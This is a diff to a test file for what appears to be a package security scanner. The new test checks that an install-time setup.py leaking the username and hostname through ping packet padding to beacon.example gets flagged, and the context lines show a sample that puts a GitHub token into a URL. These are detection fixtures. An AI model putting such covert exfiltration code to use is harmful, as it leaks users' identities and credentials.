@@ -713,3 +713,23 @@ def test_a_token_put_into_an_address_the_browser_opens_is_sent() -> None:
     assert "PV-EXF-CREDENTIAL" in ids(run(R, py(leak)))
     own = "import os, webbrowser\nwebbrowser.open('https://github.com/s?t=' + os.environ['GITHUB_TOKEN'])\n"
     assert "PV-EXF-CREDENTIAL" not in ids(run(R, py(own)))
+
+
+def test_data_in_the_padding_of_ping_packets() -> None:
+    """``ping -p`` fills each echo request with the given bytes: who installed the package,
+    hex-encoded, reaches the attacker where HTTP and DNS are watched."""
+    bad = py(
+        "import getpass, os, socket\n"
+        "data = (getpass.getuser() + '@' + socket.gethostname()).encode().hex()[:32]\n"
+        "os.system(f'ping -c 1 -p {data} beacon.example')\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    found = [f for f in run(ALL, bad) if f.rule == "PV-EXF-DNS"]
+    assert [f.severity for f in found] == [Severity.HIGH]
+    assert "ping" in found[0].message
+    # checking that a host answers
+    alive = py(
+        "import subprocess\ndef up(host):\n    return subprocess.call(['ping', '-c', '1', host]) == 0\n"
+    )
+    assert "PV-EXF-DNS" not in ids(run(ALL, alive))
